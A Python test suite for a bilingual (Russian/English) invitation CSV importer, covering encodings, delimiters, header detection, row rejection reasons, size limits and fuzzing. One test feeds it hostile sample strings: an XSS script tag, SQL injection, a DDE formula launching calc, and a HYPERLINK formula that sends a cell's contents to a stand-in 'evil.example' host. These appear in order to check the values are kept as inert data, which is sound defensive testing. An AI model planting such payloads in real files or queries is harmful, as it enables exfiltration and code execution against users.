"""The invitation CSV parser, fed files the way Excel and people write them."""

from __future__ import annotations

import io
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.bulk.csv_import import (
    CsvImport,
    InviteRow,
    normalize_language,
    parse_invitations_csv,
)
from app.text import plausible_email


def parse(data: bytes | str, **kwargs: object) -> CsvImport:
    if isinstance(data, str):
        data = data.encode("utf-8")
    kwargs.setdefault("default_language", "ru")
    return parse_invitations_csv(data, **kwargs)  # type: ignore[arg-type]


def reasons(result: CsvImport) -> list[tuple[int, str]]:
    return [(r.line, r.reason_code) for r in result.rejected]


# --- encodings and dialects -------------------------------------------------------------------


def test_it_reads_excel_ru_utf8_with_bom_and_semicolons() -> None:
    data = "\ufeffФИО;Электронная почта;Язык\r\nИванов Иван;ivan@example.ru;рус\r\n"
    data += "Smith John;john@example.com;English\r\n"
    result = parse(data.encode("utf-8"))
    assert result.error is None
    assert result.rows == [
        InviteRow(line=2, name="Иванов Иван", email="ivan@example.ru", language="ru"),
        InviteRow(line=3, name="Smith John", email="john@example.com", language="en"),
    ]
    assert result.rejected == [] and result.notes == []


def test_it_reads_utf8_without_bom_with_commas_and_lf() -> None:
    result = parse("name,email,language\nAnna Lee,anna@example.com,en\nПётр,,\n")
    assert result.error is None
    assert [(r.name, r.email, r.language) for r in result.rows] == [
        ("Anna Lee", "anna@example.com", "en"),
        ("Пётр", None, "ru"),
    ]


def test_it_reads_cp1251_from_excel_on_russian_windows() -> None:
    data = "Имя;Почта;Язык\r\nЁлкина Софья «Соня»;sofia@example.ru;русский\r\n".encode("cp1251")
    result = parse(data, default_language="en")
    assert result.error is None
    assert result.rows == [
        InviteRow(line=2, name="Ёлкина Софья «Соня»", email="sofia@example.ru", language="ru")
    ]


def test_it_refuses_a_western_cp1252_file_rather_than_garbling_names() -> None:
    result = parse("name,email\nJosé Müller,jose@example.com\n".encode("cp1252"))
    assert result.error is not None and result.error.code == "encoding"
    assert "UTF-8" in result.error.text("en") and "UTF-8" in result.error.text("ru")


def test_it_refuses_utf16_with_advice() -> None:
    result = parse("name\temail\nAnna\ta@example.com\n".encode("utf-16"))
    assert result.error is not None and result.error.code == "encoding"
    assert "UTF-16" in result.error.text("en")


def test_quoted_fields_may_hold_delimiters_quotes_and_line_breaks() -> None:
    data = (
        'Имя;Почта\r\n"Петров; Пётр";p@example.ru\r\n"Анна\r\nМария ""Маша""";a@example.ru\r\n'
        "Олег;o@example.ru\r\n"
    )
    result = parse(data)
    assert result.error is None
    assert [(r.line, r.name) for r in result.rows] == [
        (2, "Петров; Пётр"),
        (3, 'Анна Мария "Маша"'),
        (4, "Олег"),  # the multi-line cell is one spreadsheet row
    ]


def test_crlf_lf_and_cr_line_endings_read_alike() -> None:
    rows = {}
    for newline in ("\r\n", "\n", "\r"):
        text = newline.join(["name,email", "A B,a@example.com", "C D,c@example.com", ""])
        rows[newline] = parse(text).rows
    assert rows["\r\n"] == rows["\n"] == rows["\r"]
    assert [r.line for r in rows["\n"]] == [2, 3]


def test_the_delimiter_is_taken_from_the_header_not_from_commas_in_names() -> None:
    # Three commas inside a quoted header cell must not outvote two semicolons outside quotes.
    result = parse('"notes, a, b, c";name;email\nx, y;Doe, Jane;jane@example.com\n')
    assert result.error is None
    assert result.rows == [InviteRow(2, "Doe, Jane", "jane@example.com", "ru")]


# --- header -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "header",
    [
        "name,email,language",
        "NAME,E-Mail,Lang",
        "Имя,Почта,Язык",
        "фио,эл. почта,язык",
        "Ф.И.О.,Электронная почта,ЯЗЫК",
        " Full Name ,email:,language*",
    ],
)
def test_header_names_are_recognised_in_russian_and_english(header: str) -> None:
    result = parse(f"{header}\nАнна,anna@example.ru,en\n")
    assert result.error is None
    assert result.rows == [InviteRow(2, "Анна", "anna@example.ru", "en")]


def test_columns_may_come_in_any_order_and_extra_ones_are_noted() -> None:
    result = parse("Город;Язык;Почта;Отдел;ФИО\nКазань;en;a@example.ru;Продажи;Анна\n")
    assert result.rows == [InviteRow(2, "Анна", "a@example.ru", "en")]
    assert [n.code for n in result.notes] == ["columns_ignored"]
    assert "«Город», «Отдел»" in result.notes[0].text("ru")
    assert "“Город”, “Отдел”" in result.notes[0].text("en")


def test_a_phone_column_is_read_and_a_bad_number_rejects_the_row() -> None:
    result = parse("ФИО;Телефон\nАнна;+7 (900) 123-45-67\nБорис;позвонить\nВера;+7 900\n")
    assert result.rows == [InviteRow(2, "Анна", None, "ru", "+7 (900) 123-45-67")]
    assert [(r.line, r.reason_code) for r in result.rejected] == [
        (3, "phone_invalid"),
        (4, "phone_invalid"),
    ]


def test_a_header_without_a_name_column_is_a_file_error() -> None:
    result = parse("email,language\na@example.com,en\n")
    assert result.rows == [] and result.error is not None
    assert result.error.code == "name_column_missing"


def test_a_file_without_a_header_is_a_file_error() -> None:
    result = parse("Иван Петров;ivan@example.ru;ru\nАнна;anna@example.ru;ru\n")
    assert result.rows == [] and result.error is not None
    assert result.error.code == "no_header"
    assert "name, email, language" in result.error.text("en")


def test_two_email_columns_are_a_file_error() -> None:
    result = parse("name,email,почта\nA,a@example.com,b@example.com\n")
    assert result.error is not None and result.error.code == "duplicate_column"


def test_header_only_is_a_file_error() -> None:
    result = parse("name,email,language\r\n\r\n,,\r\n")
    assert result.rows == [] and result.error is not None
    assert result.error.code == "no_rows"


def test_blank_rows_before_the_header_count_as_rows() -> None:
    result = parse("\n\nname\nAnna\n")
    assert result.rows == [InviteRow(4, "Anna", None, "ru")]


# --- rows ---------------------------------------------------------------------------------------


def test_each_rejection_reason_names_the_spreadsheet_row() -> None:
    data = "\n".join(
        [
            "name,email,language",
            "Good One,good@example.com,en",  # 2
            ",nobody@example.com,en",  # 3 name_missing
            "Bad Mail,not-an-email,en",  # 4 email_invalid
            "Klingon,k@example.com,tlh",  # 5 language_unknown
            "Again,GOOD@example.com,ru",  # 6 email_duplicate of row 2
            "Doe, Jane,jane@example.com,en",  # 7 too_many_cells
            "Bell\x07Ringer,bell@example.com,en",  # 8 control_chars
            "Spoof\u202eevil,spoof@example.com,en",  # 9 control_chars (bidi override)
            "N" * 201 + ",long@example.com,en",  # 10 name_too_long
            "",  # 11 blank: skipped silently
            "Last One,last@example.com,",  # 12
        ]
    )
    result = parse(data, default_language="en")
    assert result.error is None
    assert [(r.line, r.name) for r in result.rows] == [(2, "Good One"), (12, "Last One")]
    assert reasons(result) == [
        (3, "name_missing"),
        (4, "email_invalid"),
        (5, "language_unknown"),
        (6, "email_duplicate"),
        (7, "too_many_cells"),
        (8, "control_chars"),
        (9, "control_chars"),
        (10, "name_too_long"),
    ]
    duplicate = result.rejected[3]
    assert "row 2" in duplicate.text("en") and "строке 2" in duplicate.text("ru")
    assert duplicate.raw == "Again,GOOD@example.com,ru"
    for rejected in result.rejected:
        assert rejected.text("en") and rejected.text("ru")
        assert rejected.text("en") != rejected.text("ru")


def test_a_duplicate_of_a_rejected_row_is_not_a_duplicate() -> None:
    result = parse("name,email,language\nA,a@example.com,xx\nB,a@example.com,en\n")
    assert reasons(result) == [(2, "language_unknown")]
    assert [r.name for r in result.rows] == ["B"]


def test_extra_empty_cells_are_harmless() -> None:
    result = parse("name;email;language;;\nАнна;a@example.ru;ru;;;;\n")
    assert result.rows == [InviteRow(2, "Анна", "a@example.ru", "ru")]


def test_names_are_trimmed_and_whitespace_collapsed() -> None:
    result = parse('name\n"  Анна\u00a0\u00a0 Мария\t Иванова  "\n')
    assert result.rows[0].name == "Анна Мария Иванова"


def test_a_name_of_exactly_the_limit_is_accepted() -> None:
    assert parse("name\n" + "Я" * 200 + "\n").rows[0].name == "Я" * 200


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("ru", "ru"),
        ("RU", "ru"),
        ("рус", "ru"),
        ("Русский", "ru"),
        ("ru-RU", "ru"),
        ("en", "en"),
        ("English", "en"),
        ("англ.", "en"),
        ("Английский", "en"),
        ("", "en"),
        ("  ", "en"),
        ("de", None),
        ("français", None),
    ],
)
def test_languages_are_normalised(value: str, expected: str | None) -> None:
    assert normalize_language(value, "en") == expected


@pytest.mark.parametrize(
    "email",
    ["a@example.com", "first.last+tag@sub.example.co.uk", "иван@почта.рф", "A_B@EXAMPLE.COM"],
)
def test_plausible_emails_pass(email: str) -> None:
    assert plausible_email(email)


@pytest.mark.parametrize(
    "email",
    [
        "plain",
        "a@b",
        "a@@example.com",
        "a@b@example.com",
        "a b@example.com",
        "a@example.c",
        "a@-example.com",
        "a@example..com",
        ".a@example.com",
        "a..b@example.com",
        "<a@example.com>",
        "a@example.com,b@example.com",
        "a@" + "b" * 250 + ".com",
        "a@exam\nple.com",
    ],
)
def test_implausible_emails_fail(email: str) -> None:
    assert not plausible_email(email)


# --- 100 candidates and the limits -------------------------------------------------------------


def test_a_hundred_valid_rows_give_a_hundred_invitations() -> None:
    lines = ["ФИО;Почта;Язык"]
    lines += [
        f"Кандидат Номер {i};candidate{i}@example.ru;{'ru' if i % 2 else 'en'}" for i in range(100)
    ]
    result = parse(("\ufeff" + "\r\n".join(lines) + "\r\n").encode("utf-8"))
    assert result.error is None and result.rejected == []
    assert len(result.rows) == 100
    assert [r.line for r in result.rows] == list(range(2, 102))
    assert {r.language for r in result.rows} == {"ru", "en"}


def test_an_oversized_file_is_refused_with_its_size_and_the_limit() -> None:
    result = parse(b"name\n" + b"A\n" * 1_600_000)
    assert result.rows == [] and result.error is not None
    assert result.error.code == "too_large"
    assert result.error.text("en") == "The file is 3.2 MB; the limit is 1 MB."
    assert result.error.text("ru") == "Размер файла 3,2 МБ; допускается не больше 1 МБ."


def test_too_many_rows_is_a_file_error_and_nothing_is_imported() -> None:
    data = "name\n" + "".join(f"N{i}\n" for i in range(11))
    assert len(parse(data, max_rows=11).rows) == 11
    result = parse(data, max_rows=10)
    assert result.rows == [] and result.error is not None
    assert result.error.code == "too_many_rows"


def test_an_xlsx_workbook_gets_save_as_csv_advice() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
    result = parse(buffer.getvalue())
    assert result.error is not None and result.error.code == "excel_workbook"
    assert "Excel" in result.error.text("en") and "save it as CSV" in result.error.text("en")
    assert "Excel" in result.error.text("ru")


def test_an_old_xls_workbook_gets_the_same_advice() -> None:
    result = parse(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500))
    assert result.error is not None and result.error.code == "excel_workbook"


@pytest.mark.parametrize(
    "data",
    [
        bytes(range(256)) * 4,
        b"name\nAnna\x00\n",
        b"%PDF-1.7\n...",
        b"\x01\x02\x03\x04\x05\x06 name",
    ],
)
def test_binary_garbage_is_not_text(data: bytes) -> None:
    result = parse(data)
    assert result.rows == [] and result.error is not None
    assert result.error.code in ("not_text", "encoding")


@pytest.mark.parametrize("data", [b"", b"\xef\xbb\xbf", b"  \r\n\r\n  "])
def test_an_empty_file_is_a_file_error(data: bytes) -> None:
    result = parse(data)
    assert result.error is not None and result.error.code == "empty"
    assert result.error.text("en") == "The file is empty."


def test_an_unbalanced_quote_refuses_the_file_and_names_the_row() -> None:
    result = parse('name,email\nAnna,a@example.com\n"Broken,b@example.com\nC,c@example.com\n')
    assert result.rows == [] and result.error is not None
    assert result.error.code == "malformed"
    assert "row 3" in result.error.text("en")


def test_hostile_strings_are_data_not_behaviour() -> None:
    hostile = [
        "<script>alert(1)</script>",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+CMD|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "Robert'); DROP TABLE candidates;--",
        "' OR '1'='1",
    ]
    lines = ["name,email"] + ['"' + h.replace('"', '""') + '",' for h in hostile]
    lines.append("X" * 10_000 + ",")
    result = parse("\n".join(lines))
    assert result.error is None
    # Formula-like names are kept verbatim: exports escape them, not the import.
    assert [r.name for r in result.rows] == hostile
    assert reasons(result) == [(len(hostile) + 2, "name_too_long")]
    assert len(result.rejected[0].raw) == 200


@settings(
    max_examples=300, suppress_health_check=[HealthCheck.too_slow], deadline=None, database=None
)
@given(st.binary(max_size=2000))
def test_any_bytes_give_a_result_and_never_an_exception(data: bytes) -> None:
    result = parse_invitations_csv(data, default_language="ru", max_bytes=1500, max_rows=20)
    assert isinstance(result, CsvImport)
    assert (result.error is None) or (result.rows == [] and result.rejected == [])


@settings(max_examples=200, deadline=None, database=None)
@given(
    st.lists(
        st.lists(st.text(max_size=30), min_size=1, max_size=4),
        max_size=15,
    ),
    st.sampled_from([",", ";"]),
)
def test_any_text_table_gives_a_result_and_never_an_exception(
    table: list[list[str]], delimiter: str
) -> None:
    lines = ["name" + delimiter + "email" + delimiter + "language"]
    lines += [delimiter.join('"' + c.replace('"', '""') + '"' for c in row) for row in table]
    result = parse_invitations_csv(
        "\n".join(lines).encode("utf-8", "surrogatepass"), default_language="en"
    )
    assert isinstance(result, CsvImport)
    for row in result.rows:
        assert row.name and row.name == row.name.strip() and len(row.name) <= 200
        assert row.language in ("ru", "en")
